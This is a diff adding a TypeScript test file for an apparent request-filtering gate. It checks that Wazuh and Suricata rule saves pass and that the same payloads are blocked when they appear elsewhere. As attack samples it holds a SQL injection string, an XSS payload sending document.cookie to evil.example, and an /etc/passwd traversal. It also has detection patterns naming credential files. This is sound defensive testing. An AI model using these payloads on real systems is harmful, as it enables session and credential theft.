@@ -1,0 +1,92 @@
+/**
+ * Issue 14, session 33 (adm33): the admin-save shapes recognised by route, method, content type and field shape —
+ * the Wazuh dashboard's API proxy saving a rule file (detection-rules.ts isRuleFileProxySave), a form-encoded rule
+ * text quoting an encoded pattern (gate.ts: its percent spelling), a Wazuh element an alert rule points at —
+ * pass; the same attacks on the same routes in other fields, as other content types, and on ordinary routes dressed
+ * in the admin shape, are blocked.
+ */
+import { testCarriers, type Carrier } from './carrier-verdicts.js';
+
+const WAZUH_HEADERS = { Host: 'siem.example.internal', 'Content-Type': 'application/json', 'osd-xsrf': 'kibana', Origin: 'https://siem.example.internal', Referer: 'https://siem.example.internal/app/wazuh-ruleset#/manager/?tab=rules' };
+const envelope = (over: Record<string, unknown>, body = 'x'): string => JSON.stringify({ method: 'PUT', path: '/rules/files/local_rules.xml?overwrite=true', body: { body, origin: 'raw' }, id: '0dae39de', ...over });
+const proxy = (path: string, contentType: string, make: (v: string) => string): Carrier => (v) => ({ method: 'POST', path, query: '', headers: { ...WAZUH_HEADERS, 'Content-Type': contentType }, body: make(v) });
+const form = (host: string, path: string, pairs: (v: string) => [string, string][]): Carrier => (v) => ({
+  method: 'POST',
+  path,
+  query: '',
+  headers: { Host: host, 'Content-Type': 'application/x-www-form-urlencoded', Origin: `https://${host}` },
+  body: new URLSearchParams(pairs(v)).toString(),
+});
+
+/** A Wazuh rule file whose `<match>` is the value. */
+const wazuhMatch = (v: string): string =>
+  `<group name="web,accesslog,">\n  <rule id="100253" level="7">\n    <if_sid>31100</if_sid>\n    <match>${v}</match>\n    <description>Probe: $(url)</description>\n  </rule>\n</group>`;
+const WAZUH_FILE = wazuhMatch('/wp-login.php|/xmlrpc.php|/etc/passwd|union select');
+
+const CARRIERS: Record<string, Carrier> = {
+  // The dashboard's envelope as it sends a rule file, the value being the file.
+  'wazuh proxy rule file': proxy('/api/request', 'application/json', (v) => envelope({}, v)),
+  // The manager's API itself (a rule route): a Wazuh file whose <match> is the value.
+  'wazuh rule match': (v) => ({ method: 'PUT', path: '/rules/files/web_probes.xml', query: 'overwrite=true', headers: { Host: '10.0.0.20:55000', 'Content-Type': 'application/octet-stream' }, body: wazuhMatch(v) }),
+  // pfSense's Suricata/Snort rule editor, form-encoded (the browser percent-encodes the rule's own %25).
+  'suricata form rules': form('fw.example.internal', '/suricata/suricata_rules.php', (v) => [['id', '0'], ['customrules', v], ['save', 'Save']]),
+  // The envelope's other fields, other forwarded routes, other content types, other paths, an added field.
+  'wazuh proxy id': proxy('/api/request', 'application/json', (v) => envelope({ id: v }, WAZUH_FILE)),
+  'wazuh proxy origin': proxy('/api/request', 'application/json', (v) => JSON.stringify({ method: 'PUT', path: '/rules/files/local_rules.xml', body: { body: WAZUH_FILE, origin: v }, id: 'a1' })),
+  'wazuh proxy forwarded path': proxy('/api/request', 'application/json', (v) => envelope({ path: v }, WAZUH_FILE)),
+  'wazuh proxy to users': proxy('/api/request', 'application/json', (v) => envelope({ method: 'POST', path: '/security/users' }, wazuhMatch(v))),
+  'wazuh proxy to config': proxy('/api/request', 'application/json', (v) => envelope({ path: '/manager/configuration?wait_for_complete=true' }, wazuhMatch(v))),
+  'wazuh proxy added field': proxy('/api/request', 'application/json', (v) => JSON.stringify({ method: 'PUT', path: '/rules/files/local_rules.xml', body: { body: WAZUH_FILE, origin: 'raw' }, id: 'a1', q: v })),
+  'wazuh proxy inner field': proxy('/api/request', 'application/json', (v) => JSON.stringify({ method: 'PUT', path: '/rules/files/local_rules.xml', body: { body: WAZUH_FILE, note: wazuhMatch(v) }, id: 'a1' })),
+  'wazuh proxy as text': proxy('/api/request', 'text/plain', (v) => envelope({}, wazuhMatch(v))),
+  'wazuh proxy as form': (v) => ({ method: 'POST', path: '/api/request', query: '', headers: { ...WAZUH_HEADERS, 'Content-Type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams([['method', 'PUT'], ['path', '/rules/files/local_rules.xml'], ['body', wazuhMatch(v)], ['id', 'a1']]).toString() }),
+  'envelope elsewhere': proxy('/api/requests', 'application/json', (v) => envelope({}, wazuhMatch(v))),
+  'envelope on comments': proxy('/api/comments', 'application/json', (v) => envelope({}, wazuhMatch(v))),
+  // A rule's syntax form-encoded on an ordinary route.
+  'search form rule text': form('shop.example.com', '/search', (v) => [['q', `alert http any any -> any any (msg:"LOCAL traversal"; content:"%252e%252e"; content:"${v}"; sid:1000001; rev:1;)`]]),
+  'comment form wazuh': form('shop.example.com', '/comments/new', (v) => [['body', wazuhMatch(v)]]),
+};
+
+const SURICATA_ENCODED =
+  "alert tcp any any -> $HTTP_SERVERS any (msg:\"LOCAL Directory traversal attempt\"; flow:established,to_server; content:\"%252e%252e\"; http_client_body;; classtype:web-application-attack; sid:9253593; rev:9;)\n" +
+  "drop tcp any any -> $HTTP_SERVERS 80 (msg:\"LOCAL CMS login brute force\"; flow:established,to_server; content:\"/HNAP1\"; http_uri;; nocase; pcre:\"/\\/HNAP1/i\"; classtype:misc-activity; sid:4295057; rev:9;)\n" +
+  "alert tcp $EXTERNAL_NET any -> $HTTP_SERVERS any (msg:\"LOCAL Reconnaissance tool detected\"; flow:established,to_server; content:\"acunetix\"; http_header;; nocase; classtype:attempted-recon; sid:5038140; rev:9;)\n" +
+  "alert tcp any any -> $HTTP_SERVERS $HTTP_PORTS (msg:\"LOCAL Cross-site scripting attempt\"; flow:established,to_server; content:\"onerror=\"; http_header;; nocase; pcre:\"/onerror=/Pi\"; classtype:attempted-admin; sid:5172807; rev:9;)";
+
+const BENIGN: [string, string][] = [
+  ['wazuh proxy rule file', WAZUH_FILE],
+  ['wazuh proxy rule file', '<group name="web,accesslog,">\n  <rule id="100253" level="7">\n    <if_sid>86601</if_sid>\n    <match>..%2f|wp-config.php|/solr/admin/|javascript:</match>\n    <description>Path traversal in URI: $(url)</description>\n    <mitre>\n      <id>T1083</id>\n    </mitre>\n    <group>web_scan,recon,</group>\n  </rule>\n</group>'],
+  ['wazuh rule match', 'document.cookie|/xmlrpc.php|boot.ini'],
+  ['wazuh rule match', '/.aws/credentials|/etc/passwd'],
+  ['suricata form rules', SURICATA_ENCODED],
+];
+
+const SQLI = "' UNION SELECT username, password FROM users-- ";
+const XSS = "<script>fetch('//evil.example/?c='+document.cookie)</script>";
+const ATTACKS: [string, string][] = [
+  // In the envelope's other fields, or the envelope bent.
+  ['wazuh proxy id', SQLI],
+  ['wazuh proxy origin', SQLI],
+  ['wazuh proxy forwarded path', '/rules/files/../../../../etc/passwd'],
+  ['wazuh proxy forwarded path', `/rules/files/x.xml?q=${SQLI}`],
+  ['wazuh proxy to users', SQLI],
+  ['wazuh proxy to config', SQLI],
+  ['wazuh proxy added field', SQLI],
+  ['wazuh proxy inner field', SQLI],
+  ['wazuh proxy as text', SQLI],
+  ['wazuh proxy as form', SQLI],
+  ['envelope elsewhere', SQLI],
+  ['envelope on comments', SQLI],
+  ['envelope on comments', XSS],
+  // The rule editor's form with no rule text, or something beside the rules.
+  ['suricata form rules', SQLI],
+  ['suricata form rules', `${SURICATA_ENCODED}\n${SQLI}`],
+  ['suricata form rules', `${SURICATA_ENCODED}\n${XSS}`],
+  // Rule syntax, form-encoded, off a rule route.
+  ['search form rule text', SQLI],
+  ['search form rule text', XSS],
+  ['comment form wazuh', SQLI],
+  ['comment form wazuh', XSS],
+];
+
+testCarriers('admin saves, session 33 (issue 14)', 'passes rule files saved through the Wazuh proxy and encoded rule texts', CARRIERS, BENIGN, ATTACKS);
